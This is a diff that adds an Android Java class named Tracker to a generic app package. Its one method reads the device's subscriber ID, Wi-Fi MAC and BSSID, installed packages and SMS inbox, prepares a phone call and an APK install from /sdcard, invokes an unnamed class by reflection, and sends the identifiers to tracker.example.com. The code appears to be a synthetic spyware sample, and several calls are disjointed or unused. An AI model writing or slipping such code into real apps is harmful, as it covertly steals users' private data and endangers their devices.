@@ -0,0 +1,38 @@
+package com.example.app;
+
+import android.content.ContentResolver;
+import android.content.Context;
+import android.content.Intent;
+import android.content.pm.PackageManager;
+import android.database.Cursor;
+import android.net.Uri;
+import android.net.wifi.WifiInfo;
+import android.net.wifi.WifiManager;
+import android.telephony.TelephonyManager;
+import java.io.FileOutputStream;
+import java.net.URL;
+
+public class Tracker {
+    void collect(Context context) throws Exception {
+        java.lang.Object target = java.lang.Class.forName("a.B").getMethod("run").invoke(null);
+        WifiManager wifi = (WifiManager) context.getSystemService(Context.WIFI_SERVICE);
+        wifi.getConfiguredNetworks();
+        wifi.enableNetwork(1, true);
+        WifiInfo info = wifi.getConnectionInfo();
+        String mac = info.getMacAddress() + info.getBSSID();
+        TelephonyManager tm = (TelephonyManager) context.getSystemService(Context.TELEPHONY_SERVICE);
+        String id = tm.getNetworkCountryIso() + tm.getSubscriberId() + tm.getNetworkOperatorName();
+        PackageManager pm = context.getPackageManager();
+        pm.getInstalledPackages(0);
+        context.startActivity(pm.getLaunchIntentForPackage("com.other"));
+        ContentResolver resolver = context.getContentResolver();
+        Cursor cursor = resolver.query(Uri.parse("content://sms/inbox"), null, null, null, null);
+        Intent call = new Intent(Intent.ACTION_CALL);
+        call.setData(Uri.parse("tel:" + id));
+        Intent view = new Intent(Intent.ACTION_VIEW);
+        view.setDataAndType(Uri.fromFile(new java.io.File("/sdcard/a.apk")), "application/vnd.android.package-archive");
+        new URL("http://tracker.example.com/?id=" + id).openConnection();
+        FileOutputStream out = new FileOutputStream("/sdcard/id.txt");
+        out.write(mac.getBytes());
+    }
+}